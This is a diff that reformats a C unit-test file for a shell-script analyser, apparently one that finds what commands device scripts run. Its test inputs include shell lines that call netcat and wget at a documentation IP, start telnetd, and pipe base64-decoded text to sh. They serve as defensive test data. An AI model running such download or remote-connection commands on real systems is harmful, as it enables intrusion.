@@ -39,7 +39,8 @@ static const struct {
 	{ "A=1 env_only; echo $A", "[env_only];[echo][{$A}];" },
 	{ "wget http://${S:-203.0.113.5}/x", "[wget][http://203.0.113.5/x]~;" },
 	{ "S=203.0.113.5\n. /etc/app.conf\nnc $S 515", "[.][/etc/app.conf];[nc][203.0.113.5]~[515];" },
-	{ "S=$(nvram get s)\n[ -z \"$S\" ] && S=203.0.113.5\nnc $S 1", "[nvram][get][s];[[][-z][{$(nvram get s)}][]];[nc][203.0.113.5]~[1];" },
+	{ "S=$(nvram get s)\n[ -z \"$S\" ] && S=203.0.113.5\nnc $S 1",
+	  "[nvram][get][s];[[][-z][{$(nvram get s)}][]];[nc][203.0.113.5]~[1];" },
 	{ "f() {\n wget $1 -O $2\n}\nf http://h/x /tmp/x; f b c", "[wget][http://h/x][-O][/tmp/x];[wget][b][-O][c];" },
 	{ "never() { telnetd; }", "[telnetd];" },
 	{ "function g { a; }\ng", "[a];" },
@@ -47,7 +48,8 @@ static const struct {
 	{ "for i in a; do for k in b; do c $i $k; done; done", "[c][a][b];" },
 	{ "if ping -c1 h; then a; else b; fi\nc", "[ping][-c1][h];?[a];?[b];[c];" },
 	{ "case \"$1\" in\nstart)\n a ;;\n stop|x) b;;\n*) c\nesac\nd", "?[a];?[b];?[c];[d];" },
-	{ "cat > /tmp/x.sh 2>/dev/null <<EOF\nline $A\nEOF\nsh /tmp/x.sh", "[cat]>/tmp/x.sh>/dev/null<<line {$A}\n;[sh][/tmp/x.sh];" },
+	{ "cat > /tmp/x.sh 2>/dev/null <<EOF\nline $A\nEOF\nsh /tmp/x.sh",
+	  "[cat]>/tmp/x.sh>/dev/null<<line {$A}\n;[sh][/tmp/x.sh];" },
 	{ "ftp -n h <<'E'\nuser $x y\nE\nq", "[ftp][-n][h]<<user $x y\n;[q];" },
 	{ "a \\\n b\\ c", "[a][b c];" },
 	{ "a `b c` $(d $(e))", "[b][c];[e];[d][{$(e)}];[a][{$(b c)}][{$(d $(e))}];" },
@@ -56,7 +58,8 @@ static const struct {
 	{ "export P=/opt/bin; cp -rf /mnt/* $P", "[export];[cp][-rf][/mnt/*][/opt/bin];" },
 	{ "echo {recv}; ping {getenv:H}", "[echo][{recv}];[ping][{getenv:H}];" },
 	{ "while true; do a; sleep 1; done &\nb", "[true];?[a];?[sleep][1];[b];" },
-	{ "U=http://203.0.113.5/a/b.sh\nsh ${U##*/} ${U#*/} ${U%/*} ${U%%/*}", "[sh][b.sh][/203.0.113.5/a/b.sh][http://203.0.113.5/a][http:];" },
+	{ "U=http://203.0.113.5/a/b.sh\nsh ${U##*/} ${U#*/} ${U%/*} ${U%%/*}",
+	  "[sh][b.sh][/203.0.113.5/a/b.sh][http://203.0.113.5/a][http:];" },
 	{ "X=$(echo 203.0.113.5)\nnc $X", "[echo][203.0.113.5];[nc][203.0.113.5];" },
 	{ "eval \"A=1 ; B=x\"; c $A$B", "[c][1x];" },
 	{ "eval \"$X\"", "[eval][{$X}];" },
@@ -66,12 +69,14 @@ static const struct {
 	/* sums */
 	{ "A=3; nc 203.0.113.$((A + 2)) $((0x200 + $A * (4 - 1) % 5))", "[nc][203.0.113.5][516];" },
 	{ "c $((1 << 4 | 1)) $((-7 / 2)) $((!0 + ~0)) $((2 < 3 && 3 >= 4 || 1 == 1))", "[c][17][-3][0][1];" },
-	{ "c $((X + 1)) $((1 / 0)) $((1 +)) $(((2)) $((A = 1))", "[c][{$((X + 1))}][{$((1 / 0))}][{$((1 +))}][{$(((2)) $((A = 1))}];" },
+	{ "c $((X + 1)) $((1 / 0)) $((1 +)) $(((2)) $((A = 1))",
+	  "[c][{$((X + 1))}][{$((1 / 0))}][{$((1 +))}][{$(((2)) $((A = 1))}];" },
 	/* filters: in a substitution, in front of a loop, in front of a shell; what is not known stays open */
 	{ "X=$(echo 203_0_113_5 | tr _ .)\nnc $X", "[echo][203_0_113_5];|[tr][_][.];[nc][203.0.113.5];" },
 	{ "nc $(echo h:203.0.113.5:9 | cut -d: -f2 | sed 's/\\.5$/.6/')",
 	  "[echo][h:203.0.113.5:9];|[cut][-d:][-f2];|[sed][s/\\.5$/.6/];[nc][203.0.113.6];" },
-	{ "a $(printf '%s.%s\\n' x y | rev) $(echo \"k = v\" | awk '{print $3}')", "[printf][%s.%s\\n][x][y];|[rev];[echo][k = v];|[awk][{print $3}];[a][y.x][v];" },
+	{ "a $(printf '%s.%s\\n' x y | rev) $(echo \"k = v\" | awk '{print $3}')",
+	  "[printf][%s.%s\\n][x][y];|[rev];[echo][k = v];|[awk][{print $3}];[a][y.x][v];" },
 	{ "a $(echo x | sort) $(echo x | sed 's/.*/y/') $(nc h | tr a b)",
 	  "[echo][x];|[sort];[echo][x];|[sed][s/.*/y/];[nc][h];|[tr][a][b];[a][{$(echo x | sort)}][{$(echo x | sed 's/.*/y/')}][{$(nc h | tr a b)}];" },
 	{ "echo dGVsbmV0ZA== | base64 -d | sh; b", "[echo][dGVsbmV0ZA==];|[base64][-d];|[sh];[telnetd];[b];" },
@@ -102,8 +107,10 @@ static void reads_what_a_shell_would(void **state)
 static bool file_of(const void *ctx, struct span path, struct span *content)
 {
 	(void)ctx;
-	*content = span_is(path, "/etc/app.conf") ? SPAN_LIT("S=203.0.113.5\n") : span_is(path, "/lib/f.sh") ?
-		   SPAN_LIT("get() { wget $1; }\nquiet\nT=k\n") : span_is(path, "/loop") ? SPAN_LIT(". /loop\n. /loop\n") : (struct span){ 0 };
+	*content = span_is(path, "/etc/app.conf") ? SPAN_LIT("S=203.0.113.5\n")
+		 : span_is(path, "/lib/f.sh")	  ? SPAN_LIT("get() { wget $1; }\nquiet\nT=k\n")
+		 : span_is(path, "/loop")	  ? SPAN_LIT(". /loop\n. /loop\n")
+						  : (struct span){ 0 };
 	return content->n > 0;
 }
 
@@ -122,7 +129,8 @@ static unsigned match_of(const void *ctx, struct span pattern, struct arena *a, 
 	return most && span_is(pattern, "/etc/*.conf");
 }
 
-/* What a file that is sourced sets may be set otherwise; functions of a library are code; what is not there changes all. */
+/* What a file that is sourced sets may be set otherwise; functions of a library are code; what is not there
+ * changes all. */
 static const struct {
 	const char *text, *want;
 } worlds[] = {
@@ -174,12 +182,40 @@ static void says_where_a_command_stands(void **state)
 }
 
 static const char *const hostile[] = {
-	"'", "\"", "`", "$(", "${", "$((", "((((((((((((((((((((((((((((((((", "case", "case x in", "for", "for i in", "f()",
-	"f() { f; }; f", "f() { f; f; f; f; }\nf", "<<", "<<EOF", "a <<EOF\nb", "done fi esac }", ";;;;", ">", "2>&", "$", "\\",
+	"'",
+	"\"",
+	"`",
+	"$(",
+	"${",
+	"$((",
+	"((((((((((((((((((((((((((((((((",
+	"case",
+	"case x in",
+	"for",
+	"for i in",
+	"f()",
+	"f() { f; }; f",
+	"f() { f; f; f; f; }\nf",
+	"<<",
+	"<<EOF",
+	"a <<EOF\nb",
+	"done fi esac }",
+	";;;;",
+	">",
+	"2>&",
+	"$",
+	"\\",
 	"\"$(\"$(\"$(\"",
 	("for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do "
-	 "for d in 1 2 3 4 5 6 7 8; do for e in 1 2 3 4 5 6 7 8; do for f in 1 2 3 4 5 6 7 8; do x=1; done; done; done; done; done; done"),
-	"X=$X$X; X=$X$X$X$X$X$X; echo ${X:-${X:-${X:-$X}}}", "\xff\xfe\x01 \x80", "${:-}", "${-}", "a=`a=`a", "{", "}",
+	 "for d in 1 2 3 4 5 6 7 8; do for e in 1 2 3 4 5 6 7 8; do for f in 1 2 3 4 5 6 7 8; do x=1; done; done; done; "
+	 "done; done; done"),
+	"X=$X$X; X=$X$X$X$X$X$X; echo ${X:-${X:-${X:-$X}}}",
+	"\xff\xfe\x01 \x80",
+	"${:-}",
+	"${-}",
+	"a=`a=`a",
+	"{",
+	"}",
 };
 
 static void ends_on_hostile_text(void **state)
